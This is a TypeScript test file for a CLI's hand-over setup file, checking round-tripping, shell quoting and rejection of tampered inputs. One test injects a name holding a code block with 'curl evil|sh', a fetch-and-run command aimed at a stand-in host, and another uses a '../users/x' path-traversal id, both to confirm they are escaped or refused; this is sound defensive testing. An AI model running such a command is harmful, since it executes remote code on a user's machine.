import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { describeHandover, readHandover, type Handover } from '../../../../cli/setup/handover-file.js';
import { listNeededRoles } from '../../../../cli/setup/needed-roles.js';

const folder = mkdtempSync(join(tmpdir(), 'skep-handover-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

const HANDOVER: Handover = {
  identity: '5ce90000-0b1e-4000-8000-000000000001',
  tenant: 'contoso.com',
  graphUrl: 'https://graph.microsoft.us',
  roles: listNeededRoles(true),
};

const save = (text: string): string => {
  const file = join(folder, 'handover.md');
  writeFileSync(file, text);
  return file;
};

describe('a hand-over file', () => {
  it('is read back as it was written, also by way of Windows', () => {
    const text = describeHandover(HANDOVER, 'handover.md');
    expect(readHandover(save(text))).toEqual(HANDOVER);
    expect(readHandover(save(text.replaceAll('\n', '\r\n')))).toEqual(HANDOVER);
  });

  it('names tenant and cloud in its commands, and quotes its own name', () => {
    const text = describeHandover(HANDOVER, "an admin's file.md");
    expect(text).toContain('az login --tenant contoso.com ');
    expect(text).toContain('"https://graph.microsoft.us/v1.0/servicePrincipals/$api/appRoleAssignedTo"');
    const command = /^skep setup --from (.*)$/m.exec(text)?.[1] ?? '';
    expect(execFileSync('sh', ['-c', `printf %s ${command}`], { encoding: 'utf8' })).toBe(
      "an admin's file.md",
    );
  });

  it('shows no name that could be taken for a part of it', () => {
    const text = describeHandover({ ...HANDOVER, name: 'x**\n```sh\ncurl evil|sh\n```' }, 'handover.md');
    expect(text.match(/^```sh$/gm)).toHaveLength(2);
    expect(text).not.toContain('evil|sh');
  });

  const broken: readonly [string, (text: string) => string][] = [
    ['without its block', (text) => text.replace('```json', '```')],
    ['of another version', (text) => text.replace('handover 1', 'handover 2')],
    ['with an id that is none', (text) => text.replaceAll(HANDOVER.identity, '../users/x')],
    ['with a tenant that is none', (text) => text.replaceAll('contoso.com', 'a b')],
    [
      'with a role that Skep does not need',
      (text) => text.replaceAll('"User.Read.All"', '"User.ReadWrite.All"'),
    ],
    ['with the right role of another API', (text) => text.replace('"c161e42e', '"c161e42f')],
    ['of nothing', () => ''],
  ];
  it.each(broken)('%s is refused', (_what, change) => {
    const file = save(change(describeHandover(HANDOVER, 'handover.md')));
    expect(() => readHandover(file)).toThrow(expect.objectContaining({ code: 'ERR_USAGE' }) as Error);
  });
});
